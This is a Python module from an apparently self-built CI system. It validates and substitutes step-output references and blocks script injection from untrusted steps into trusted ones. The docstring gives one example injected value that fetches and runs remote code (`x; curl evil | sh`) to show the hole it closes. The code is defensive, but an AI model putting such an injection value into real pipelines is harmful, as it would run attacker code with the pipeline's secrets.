"""`${{ steps.<step>.outputs.<name> }}` references: found, checked before any step runs, substituted.

A step may use the outputs of steps upstream of it (its dependencies, transitively; for an `always` /
`on_failure` step without depends_on, every step declared before it) in its command, its env values and
its condition (`steps.build.outputs.version == '1.2'`, without `${{ }}`).

The rule that closes GitHub Actions' classic script-injection hole: a TRUSTED step's command and env may
not use an output of an UNTRUSTED step. That output is text the untrusted code chose (`x; curl evil | sh`);
substituted into a trusted shell command it would run with the secrets. Validation refuses it, naming the
variable the trusted step may read instead (REACTORCIDE_UNTRUSTED_OUTPUT_<STEP>_<NAME>, data only).
Conditions may use it: a condition compares data and decides only whether a step the job's author wrote runs.

Substitution is raw text, as GitHub does (a value is never shell-quoted; quote it yourself, or better pass
it through `env:` and use "$VAR"): for trusted commands the producer is trusted too, so the value is as
trusted as the command; in an untrusted step the result runs sandboxed.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable, Mapping
from typing import Any

# GitHub's step ids and output names: letters, digits, '_' and '-' (a '.' would be ambiguous here).
REF_RE = re.compile(r"\$\{\{\s*steps\.([A-Za-z0-9][A-Za-z0-9_-]*)\.outputs\.([A-Za-z_][A-Za-z0-9_-]*)\s*\}\}")
EXPR_RE = re.compile(r"\$\{\{.*?\}\}", re.DOTALL)
COND_REF_RE = re.compile(r"^steps\.([A-Za-z0-9][A-Za-z0-9_-]*)\.outputs\.([A-Za-z_][A-Za-z0-9_-]*)$")
UNTRUSTED_OUTPUT_PREFIX = "REACTORCIDE_UNTRUSTED_OUTPUT_"


class StepReferenceError(ValueError):
    """A `${{ ... }}` that cannot be used where it is written; the message names step, field and rule."""


def untrusted_output_variable(step: str, name: str) -> str:
    """REACTORCIDE_UNTRUSTED_OUTPUT_<STEP>_<NAME>: how a trusted step reads an untrusted step's output."""
    return UNTRUSTED_OUTPUT_PREFIX + re.sub(r"[^A-Z0-9_]", "_", f"{step}_{name}".upper())


def references(text: str) -> list[tuple[str, str]]:
    """The (step, output) pairs `text` refers to with `${{ steps.S.outputs.N }}`."""
    return REF_RE.findall(text) if "${{" in text else []


def condition_reference(name: str) -> tuple[str, str] | None:
    """(step, output) when a condition variable name is `steps.S.outputs.N`."""
    m = COND_REF_RE.match(name)
    return (m.group(1), m.group(2)) if m else None


def upstream(steps: Mapping[str, Any], name: str) -> list[str]:
    """The steps that have finished whenever `name` starts, in declaration order (see the module doc)."""
    declared = list(steps)
    seen: set[str] = set()
    stack = list(_waits(steps, declared, name))
    while stack:
        current = stack.pop()
        if current in seen or current not in steps:
            continue
        seen.add(current)
        stack.extend(_waits(steps, declared, current))
    return [n for n in declared if n in seen]


def _waits(steps: Mapping[str, Any], declared: list[str], name: str) -> list[str]:
    step = steps[name]
    if not step.depends_on and step.parsed_condition.waits_for_earlier_steps:
        return declared[:declared.index(name)]
    return list(step.depends_on)


def _texts(step: Any) -> Iterable[tuple[str, str]]:
    command = step.command
    for item in [command] if isinstance(command, str) else command:
        yield "command", item
    for key, value in step.env.items():
        yield f"env.{key}", value


def check_step_references(steps: Mapping[str, Any], where: Callable[[Any], str] = lambda s: "") -> None:
    """Refuse references to unknown, not-upstream or (from trusted steps) untrusted steps' outputs, and any
    other `${{ ... }}` expression (only step outputs exist here). `steps` maps name -> Step."""
    for step in steps.values():
        label = f"step {step.name!r}{where(step)}"
        before: list[str] | None = None
        used: list[tuple[str, str, str]] = []
        for field, text in _texts(step):
            if "${{" not in text:
                continue
            for expr in EXPR_RE.findall(text):
                if not REF_RE.fullmatch(expr):
                    raise StepReferenceError(
                        f"{label}: {field}: {expr[:80]} is not supported: only "
                        "${{ steps.<step>.outputs.<name> }} expressions are (step ids and names of letters, "
                        "digits, '_' and '-')")
            used += [(field, s, n) for s, n in references(text)]
        used += [("condition", *ref) for ref in map(condition_reference, step.parsed_condition.names()) if ref]
        for field, producer, output in used:
            if before is None:
                before = upstream(steps, step.name)
            if producer not in steps:
                raise StepReferenceError(f"{label}: {field}: steps.{producer}.outputs.{output}: no step "
                                         f"named {producer!r}")
            if producer not in before:
                raise StepReferenceError(
                    f"{label}: {field}: steps.{producer}.outputs.{output}: step {producer!r} is not upstream "
                    f"of {step.name!r} (add it to depends_on)")
            if field != "condition" and step.trust == "trusted" and steps[producer].trust == "untrusted":
                raise StepReferenceError(
                    f"{label}: {field}: ${{{{ steps.{producer}.outputs.{output} }}}} is an output of the "
                    f"untrusted step {producer!r}: it may not become part of a trusted step's command or env "
                    "(script injection); read it as data from "
                    f"${untrusted_output_variable(producer, output)} (quoted) instead")


def substitute(text: str, lookup: Callable[[str, str], str]) -> str:
    """`text` with every `${{ steps.S.outputs.N }}` replaced by lookup(S, N) (raw text; see the module doc)."""
    if "${{" not in text:
        return text
    return REF_RE.sub(lambda m: lookup(m.group(1), m.group(2)), text)
